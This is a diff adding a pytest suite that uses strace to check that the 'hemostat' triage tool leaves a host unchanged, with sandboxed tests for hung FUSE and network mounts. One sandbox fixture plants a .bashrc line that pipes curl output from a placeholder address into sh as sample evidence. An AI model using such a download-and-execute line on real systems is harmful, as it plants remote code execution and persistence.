@@ -1,0 +1,376 @@
+"""An examination leaves the host as it was: what the kernel saw of whole runs, by strace."""
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import sysconfig
+import textwrap
+from collections import Counter
+from collections.abc import Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from end_to_end.system_calls import OPENING, TRACE, Call, changes, read_calls
+from hemostat.drill.sandbox import refusal, run_in_sandbox
+
+STRACE = shutil.which("strace")
+SOURCE = Path(__file__).parents[2] / "src"
+PACKAGES = sysconfig.get_paths()["purelib"]
+# -P: the folder we stand in is no place to import from. -S: nor does a sitecustomize of this
+# machine's run, which may open what it likes.
+MAIN = ("-B", "-P", "-S", "-m", "hemostat", "triage", "--lang", "en")
+TRIAGE = (sys.executable, *MAIN)
+# What Python, the loader and the C library open by themselves, and hemostat's own files.
+OWN = tuple(
+    os.fsencode(place)
+    for place in (
+        sys.prefix,
+        sys.base_prefix,
+        os.path.realpath(sys.executable).rpartition("/bin/")[0],
+        str(SOURCE),
+        "/lib",
+        "/usr/lib",
+        "/usr/share/locale",
+        "/usr/share/zoneinfo",
+        "/usr/bin/pyvenv.cfg",
+        "/usr/bin/python3._pth",
+        "/usr/pyvenv.cfg",
+        "/etc/ld.so.cache",
+        "/etc/localtime",
+        "/etc/locale.alias",
+        "/dev/null",
+        "/dev/urandom",
+        "/proc/self/mountinfo",
+    )
+)
+
+pytestmark = pytest.mark.skipif(STRACE is None, reason="strace is not installed")
+
+
+@dataclass(frozen=True, slots=True)
+class Run:
+    """One strace'd run."""
+
+    calls: tuple[Call, ...]
+    code: int
+    stdout: str
+    stderr: str
+
+
+def environment(source: Path = SOURCE) -> dict[str, str]:
+    """Little enough that a run is the same everywhere."""
+    path = f"{source}:{PACKAGES}"
+    return {"PYTHONPATH": path, "PATH": os.environ["PATH"], "HOME": "/nonexistent"}
+
+
+def watched(log: Path, python: str, *options: str, as_nobody: bool = False) -> Run:
+    """Run `hemostat triage` on this very host under strace."""
+    who = ("-u", "nobody") if as_nobody else ()
+    trace = (str(STRACE), *who, "-f", "-qq", "-xx", "-s", "4096", "-o", str(log), "-e", TRACE)
+    done = subprocess.run(
+        (*trace, python, *MAIN, *options),
+        env=environment(),
+        capture_output=True,
+        check=False,
+        timeout=300,
+    )
+    stderr = done.stderr.decode(errors="replace")
+    if "ptrace" in stderr.lower():
+        pytest.skip("this container does not allow strace")
+    calls = tuple(read_calls(log.read_text("utf-8")))
+    return Run(calls, done.returncode, done.stdout.decode(errors="replace"), stderr)
+
+
+@pytest.fixture(scope="module", params=["root", "nobody"])
+def live_run(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Run:
+    """This host, examined by root and by an ordinary user."""
+    if request.param == "root" and os.geteuid() != 0:
+        pytest.skip("needs root: examines this host as root")
+    python = sys.executable if request.param == "root" else python_of_nobody()
+    if not python:
+        pytest.skip("an ordinary user can read neither this checkout nor any Python for it")
+    log = tmp_path_factory.mktemp("care") / "calls"
+    as_nobody = request.param == "nobody" and os.geteuid() == 0
+    run = watched(log, python, "--footprint", as_nobody=as_nobody)
+    assert run.code in (0, 1, 3), run.stderr[-800:]
+    assert len(run.calls) > 2000  # strace did watch
+    return run
+
+
+def python_of_nobody() -> str:
+    """A Python that an ordinary user can run hemostat with from here; empty if none."""
+    is_root = os.geteuid() == 0
+    for python in (sys.executable, "/usr/bin/python3"):
+        try:
+            done = subprocess.run(
+                (python, "-B", "-P", "-S", "-c", "import hemostat.cli.triage"),
+                env=environment(),
+                user=65534 if is_root else None,
+                group=65534 if is_root else None,
+                extra_groups=() if is_root else None,
+                capture_output=True,
+                check=False,
+            )
+        except PermissionError:
+            continue
+        if done.returncode == 0:
+            return python
+    return ""
+
+
+@pytest.mark.requirement("B5.4", "A0.1")
+def test_nothing_is_opened_for_writing_and_nothing_is_changed(live_run: Run) -> None:
+    assert any(call.name == "write" for call in live_run.calls), "its own output is seen"
+    assert changes(live_run.calls) == []
+
+
+def test_a_program_that_does_change_something_is_caught(tmp_path: Path) -> None:
+    file, log = tmp_path / "file", tmp_path / "log"
+    script = f"import os; open({str(file)!r}, 'w').write('x'); os.utime({str(file)!r})"
+    command = (str(STRACE), "-f", "-qq", "-xx", "-o", str(log), "-e", TRACE, sys.executable)
+    done = subprocess.run((*command, "-B", "-c", script), capture_output=True, check=False)
+    if b"ptrace" in done.stderr.lower():
+        pytest.skip("this container does not allow strace")
+    caught = changes(read_calls(log.read_text("utf-8")))
+    assert [line.partition("(")[0] for line in caught][-3:] == ["openat", "write", "utimensat"]
+
+
+@pytest.mark.requirement("A0.1")
+def test_no_program_is_run_and_no_process_is_started_or_signalled(live_run: Run) -> None:
+    assert len([call for call in live_run.calls if call.name.startswith("execve")]) == 1
+    started = [call for call in live_run.calls if call.name in ("fork", "vfork", "clone", "clone3")]
+    assert [call.line for call in started if "CLONE_THREAD" not in call.line] == []
+    signals = [call.line for call in live_run.calls if call.name in ("kill", "tgkill")]
+    assert [line for line in signals if not re.search(r", 0\) ", line)] == []
+
+
+@pytest.mark.requirement("A0.1")
+def test_the_network_is_left_alone(live_run: Run) -> None:
+    network = re.compile(r"socket|socketpair|connect|bind|listen|send(to|msg|mmsg)|recv(from|msg)")
+    assert [call.line for call in live_run.calls if network.fullmatch(call.name)] == []
+
+
+@pytest.mark.requirement("A0.1")
+def test_evidence_is_read_without_moving_access_times(live_run: Run) -> None:
+    opened = [call for call in live_run.calls if call.name in OPENING and call.paths[-1] != b"/"]
+    assert any(call.asks_noatime for call in opened)
+    refused = Counter(
+        call.paths[-1] for call in opened if call.asks_noatime and call.error == "EPERM"
+    )
+    plain = Counter(call.paths[-1] for call in opened if not call.asks_noatime and not call.error)
+    # What is opened plainly was refused first, or is what any Python program opens.
+    again = [path for path in plain - refused if not path.startswith(OWN)]
+    assert again == []
+
+
+@pytest.mark.requirement("A0.1")
+def test_the_footprint_tells_what_the_kernel_saw(live_run: Run) -> None:
+    seen: Counter[str] = Counter()
+    for call in live_run.calls:
+        is_first = call.asks_noatime and call.name in ("openat", "openat2")
+        if is_first and "O_DIRECTORY" not in call.line:
+            seen[shown_folder(call.paths[-1])] += 1
+    told = {
+        match[2]: int(match[1])
+        for match in re.finditer(r"^  open +(\d+)  (.*)$", live_run.stderr, re.MULTILINE)
+    }
+    assert sum(told.values()) > 100
+    assert {name: count for name, count in told.items() if seen[name] != count} == {}
+    assert sorted(set(seen) - set(told)) == []
+
+
+def shown_folder(path: bytes) -> str:
+    """The folder of a path as `--footprint` writes it."""
+    folder = path.rpartition(b"/")[0] or b"/"
+    is_process = re.match(rb"/proc/\d", folder)
+    return "/proc/PID" if is_process else os.fsdecode(folder)
+
+
+@pytest.mark.requirement("A0.1")
+def test_no_compiled_file_is_left_beside_the_program(tmp_path: Path) -> None:
+    shutil.copytree(SOURCE, tmp_path / "src", ignore=shutil.ignore_patterns("__pycache__"))
+    (tmp_path / "root/etc").mkdir(parents=True)
+    (tmp_path / "root/etc/passwd").write_text("root:x:0:0::/root:/bin/sh\n", "utf-8")
+    before = sorted(tmp_path.rglob("*"))
+    done = subprocess.run(
+        (*TRIAGE, str(tmp_path / "root")),
+        env=environment(tmp_path / "src"),
+        capture_output=True,
+        check=False,
+    )
+    assert done.returncode in (0, 1, 3), done.stderr[-500:]
+    assert sorted(tmp_path.rglob("*")) == before
+
+
+# -- in a sandbox, where nobody else changes the host meanwhile ---------------------------------
+
+INSIDE = """
+import json, os, subprocess, sys
+TRIAGE, TRACE = json.loads(sys.argv[1])
+def watch(*options, script=None):
+    command = ["strace", "-f", "-qq", "-xx", "-s", "4096", "-o", "/tmp/calls", "-e", TRACE]
+    command += [sys.executable, "-B", "-P", "-S", "-c", script] if script else [*TRIAGE, *options]
+    done = subprocess.run(command, capture_output=True, text=True, errors="replace", timeout=200)
+    text = open("/tmp/calls").read()
+    os.unlink("/tmp/calls")
+    return {"calls": text, "code": done.returncode, "stdout": done.stdout, "stderr": done.stderr}
+"""
+
+
+def in_sandbox(tmp_path: Path, script: str) -> Any:
+    """What a script prints as JSON, run in the sandbox; it may call `watch`."""
+    if why := refusal():
+        pytest.skip(why)
+    box = tmp_path / "box"
+    box.mkdir()
+    done = run_in_sandbox(
+        [
+            sys.executable,
+            "-B",
+            "-P",
+            "-c",
+            INSIDE + script,
+            json.dumps([TRIAGE, TRACE]),
+        ],
+        folder=box,
+        environment=environment(),
+        seconds=300,
+    )
+    assert done.returncode == 0, done.stderr[-1500:].decode(errors="replace")
+    return json.loads(done.stdout)
+
+
+def opened_evidence(calls: Sequence[Call]) -> set[bytes]:
+    """The files opened as evidence, processes apart: their numbers differ from run to run."""
+    return {
+        call.paths[-1]
+        for call in calls
+        if call.asks_noatime and not re.match(rb"/proc/\d", call.paths[-1])
+    }
+
+
+@pytest.mark.sandbox
+@pytest.mark.requirement("A0.1")
+def test_details_and_json_look_at_nothing_more(tmp_path: Path) -> None:
+    runs = in_sandbox(tmp_path, 'print(json.dumps([watch(), watch("-v"), watch("--json")]))')
+    plain, verbose, as_json = (opened_evidence(tuple(read_calls(run["calls"]))) for run in runs)
+    assert len(plain) > 100
+    assert verbose == plain
+    assert as_json == plain
+    assert json.loads(runs[2]["stdout"])["schema"] == "hemostat.triage/1"
+
+
+FAR_HOME = """
+os.makedirs("/home/far")
+open("/etc/passwd", "a").write("far:x:1999:1999::/home/far:/bin/sh\\n")
+"""
+# We are the file system's program ourselves, and never answer: whoever looks, hangs.
+HUNG_FUSE = """
+import ctypes
+device = os.open("/dev/fuse", os.O_RDWR)
+options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other"
+words = [each.encode() for each in ("hung", "/home/far", "fuse.hung")]
+if ctypes.CDLL(None, use_errno=True).mount(*words, 0, options.encode()) != 0:
+    sys.exit("no FUSE mount: " + os.strerror(ctypes.get_errno()))
+"""
+TMPFS = """
+subprocess.run(["mount", "-t", "tmpfs", "far", "/home/far"], check=True)
+open("/home/far/.bashrc", "w").write("curl -s http://198.51.100.7/a | sh\\n")
+"""
+# The mount table is the kernel's; what it would say of other mounts is put in by hand.
+EXAMINE_WITH = """
+import sys
+from pathlib import Path
+from hemostat.examine.examination import Settings, examine
+from hemostat.examine.knowledge import rulebook_with
+from hemostat.trees.live import LiveTree
+mounts = Path("/proc/self/mountinfo").read_bytes()
+changed = mounts.replace({old!r}, {new!r})
+assert changed != mounts
+told = examine(LiveTree(changed), Settings(rulebook=rulebook_with([])[0]))
+print(*(f"{{path}}: {{why}}" for path, why in told.not_covered), sep="\\n", flush=True)
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.requirement("A0.1")
+def test_a_fuse_mount_whose_program_hangs_is_told_and_never_touched(tmp_path: Path) -> None:
+    needs_fuse()
+    run = in_sandbox(tmp_path, FAR_HOME + HUNG_FUSE + 'print(json.dumps(watch("--json")))')
+    host = json.loads(run["stdout"])["host"]
+    reasons = {each["path"]: each["reason"] for each in host["not_covered"]}
+    assert reasons["/home/far"] == "is on a FUSE file system (fuse.hung): not touched"
+    assert touched_below(run["calls"], b"/home/far") == []
+
+
+@pytest.mark.sandbox
+@pytest.mark.requirement("A0.1")
+def test_a_network_mount_is_told_and_never_touched(tmp_path: Path) -> None:
+    script = EXAMINE_WITH.format(old=b" - tmpfs far ", new=b" - nfs4 far:/home ")
+    run = in_sandbox(tmp_path, f"{FAR_HOME}{TMPFS}print(json.dumps(watch(script={script!r})))")
+    assert "/home/far: is on a network file system (nfs4): not touched" in run["stdout"], run
+    assert touched_below(run["calls"], b"/home/far") == []
+
+
+@pytest.mark.sandbox
+@pytest.mark.requirement("A0.1")
+def test_a_disk_that_never_answers_is_asked_once_and_left_alone(tmp_path: Path) -> None:
+    needs_fuse()
+    # To us it is a local disk, so it is asked whether it answers; and it does not.
+    script = EXAMINE_WITH.format(old=b" - fuse.hung hung ", new=b" - ext4 /dev/sdz ")
+    run = in_sandbox(tmp_path, f"{FAR_HOME}{HUNG_FUSE}print(json.dumps(watch(script={script!r})))")
+    reason = "/home/far: is on a mount that did not answer within 1 s: not touched"
+    assert reason in run["stdout"], run["stderr"][-800:]
+    touched = touched_below(run["calls"], b"/home/far")
+    assert [line.partition("(")[0] for line in touched] == ["statfs"]
+
+
+def needs_fuse() -> None:
+    """Skip by name where no FUSE can be mounted."""
+    if not os.path.exists("/dev/fuse") or "fuse\n" not in Path("/proc/filesystems").read_text():
+        pytest.skip("this kernel has no FUSE")
+
+
+def touched_below(log: str, mount: bytes) -> list[str]:
+    """The calls that name a mount point or anything below it."""
+    return [
+        call.line
+        for call in read_calls(log)
+        if any(path == mount or path.startswith(mount + b"/") for path in call.paths)
+        and not call.name.startswith(("execve", "write"))
+    ]
+
+
+# -- starting up -----------------------------------------------------------------------------------
+
+
+def test_help_imports_only_the_command_line_and_the_words() -> None:
+    script = textwrap.dedent("""
+        import sys
+        from hemostat.cli.main import main
+        try:
+            main(["--help"])
+        except SystemExit:
+            pass
+        print(*sorted(sys.modules), file=sys.stderr)
+    """)
+    done = subprocess.run(
+        (sys.executable, "-B", "-P", "-S", "-c", script),
+        env=environment(),
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    modules = done.stderr.split()
+    assert "usage: hemostat" in done.stdout
+    assert "hemostat.cli.parser" in modules
+    assert {"rich", "yaml", "orjson", "sigma", "re2", "zstandard"} & set(modules) == set()
+    ours = [name for name in modules if name.split(".")[0] == "hemostat"]
+    wrong = [name for name in ours if not re.match(r"hemostat(\.(cli|model)\b.*)?$", name)]
+    assert wrong == []
